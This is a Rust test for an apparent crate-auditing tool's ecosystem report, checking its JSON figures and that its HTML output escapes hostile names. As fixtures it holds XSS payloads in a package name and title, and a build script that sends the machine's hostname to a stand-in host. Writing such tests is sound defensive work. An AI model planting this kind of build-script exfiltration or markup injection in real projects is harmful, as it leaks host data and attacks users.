//! `report ecosystem`: the page and its figures.

use std::fs;

use crate::fixture::Fixture;
use crate::registry::{Registry, Version};

/// Guards the figures, and that the page asks nobody for anything and lets no
/// name be markup.
#[test]
fn ecosystem() {
    let fixture = Fixture::app("", "fn main() {}\n");
    let registry = Registry::new(fixture.path("registry"));
    for (version, time) in [
        ("1.0.0", "2024-01-01T00:00:00Z"),
        ("1.1.0", "2025-01-01T00:00:00Z"),
    ] {
        registry.publish(&Version {
            name: "careful",
            version,
            time,
            files: &[(
                "src/lib.rs",
                "//! Nothing.\n#![forbid(unsafe_code)]\npub fn f() {}\n",
            )],
            ..Version::default()
        });
    }
    registry.publish(&Version {
        name: "bold",
        version: "0.1.0",
        time: "2025-06-01T00:00:00Z",
        files: &[
            (
                "src/lib.rs",
                "pub fn f() { unsafe { std::hint::unreachable_unchecked() } }\n",
            ),
            (
                "build.rs",
                "fn main() { let _ = std::process::Command::new(\"cc\").status(); }\n",
            ),
        ],
        ..Version::default()
    });
    let evil = "<img src=x onerror=alert(1)>";
    fixture.write(
        "ws/evil/Cargo.toml",
        &format!("[package]\nname = \"{evil}\"\nversion = \"1.0.0\"\n[build-dependencies]\nureq = \"2\"\n"),
    );
    fixture.write("ws/evil/src/lib.rs", "");
    fixture.write(
        "ws/evil/build.rs",
        "fn main() { let host = std::env::var(\"HOSTNAME\").unwrap_or_default(); let _ = ureq::get(&format!(\"https://x.example.invalid/?h={host}\")).call(); }\n",
    );
    fs::write(registry.root.join("broken-1.0.0.crate"), "no archive").unwrap();
    let output = fixture.run(&[
        "report",
        "ecosystem",
        "evil",
        "--registry",
        "../registry",
        "--html",
        "audit.html",
        "--json",
        "audit.json",
        "--title",
        "</title><script>alert(2)</script>",
    ]);
    assert_eq!(output.code, 4, "{}", output.stderr);
    let json = fs::read_to_string(fixture.path("ws/audit.json")).unwrap();
    let json: serde_json::Value = serde_json::from_str(&json).unwrap();
    assert_eq!(json["schema"], 1);
    assert_eq!(json["corpus"]["crates"], 3);
    assert_eq!(json["corpus"]["versions"], 4);
    assert_eq!(json["unsafe_code"]["none"], 2);
    assert_eq!(json["unsafe_code"]["forbidden"], 1);
    assert_eq!(json["build_time"]["build_scripts"], 2);
    let years: Vec<i64> = json["trends"]
        .as_array()
        .unwrap()
        .iter()
        .map(|year| year["year"].as_i64().unwrap())
        .collect();
    assert_eq!(years, [2024, 2025]);
    assert_eq!(json["riskiest"][0]["package"], format!("{evil} 1.0.0"));
    assert_eq!(json["failed"].as_array().unwrap().len(), 1);

    let html = fs::read_to_string(fixture.path("ws/audit.html")).unwrap();
    assert!(html.contains("default-src 'none'"));
    assert!(html.contains("&lt;img src=x onerror=alert(1)&gt;"));
    for markup in ["<script", "<img", "<link", "http://", "https://", "url("] {
        assert!(!html.contains(markup), "{markup}");
    }
    // Every chart can be read without being seen.
    assert_eq!(
        html.matches("<svg ").count(),
        html.matches("role=\"img\" aria-label=\"").count()
    );
    assert!(html.matches("<svg ").count() >= 8);
}
